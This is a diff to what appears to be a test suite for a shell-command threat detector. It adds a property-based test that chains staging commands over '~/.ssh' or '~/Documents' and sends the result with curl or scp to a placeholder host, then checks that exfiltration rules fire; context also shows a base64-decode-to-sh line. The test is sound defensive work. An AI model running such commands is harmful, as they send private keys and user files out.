@@ -109,6 +109,32 @@ def test_a_decoded_text_is_followed_to_what_runs_it(text: str) -> None:
     assert hits(text)["shell-decoded-to-exec"] is Severity.CRITICAL
 
 
+STEPS = (
+    'cp -r {0} "$D/{1}"',
+    "tar czf /tmp/{1}.tgz {0}",
+    "gzip -c {0} > /tmp/{1}.gz",
+    "base64 {0} > {1}",
+    "zip -qr {1}.zip {0}",
+)
+WROTE = ("$D/{1}", "/tmp/{1}.tgz", "/tmp/{1}.gz", "{1}", "{1}.zip")
+SENDS = (
+    "curl -T {0} https://up.quietrelay.example.com/in",
+    'curl -F "f=@{0}" https://up.quietrelay.example.com/in',
+    "cat {0} | curl --data-binary @- https://up.quietrelay.example.com/in",
+    "scp -r {0} x@up.quietrelay.example.com:/in",
+)
+
+
+@given(st.lists(st.integers(0, len(STEPS) - 1), max_size=4), st.sampled_from(SENDS), st.booleans())
+def test_what_is_staged_is_followed_however_it_is_staged(steps: list[int], send: str, keys: bool) -> None:
+    held, lines = "~/.ssh" if keys else "~/Documents", ["D=$(mktemp -d)"]
+    for number, step in enumerate(steps):
+        lines.append(STEPS[step].format(held, f"n{number}"))
+        held = WROTE[step].format(held, f"n{number}")
+    rule = "shell-secret-to-network" if keys else "shell-files-to-network"
+    assert rule in hits("\n".join([*lines, send.format(held)]))
+
+
 def test_text_in_a_sentence_weighs_less_than_a_script() -> None:
     assert hits("echo aGk= | base64 -d | sh", "command")["shell-decoded-to-exec"] is Severity.HIGH
 
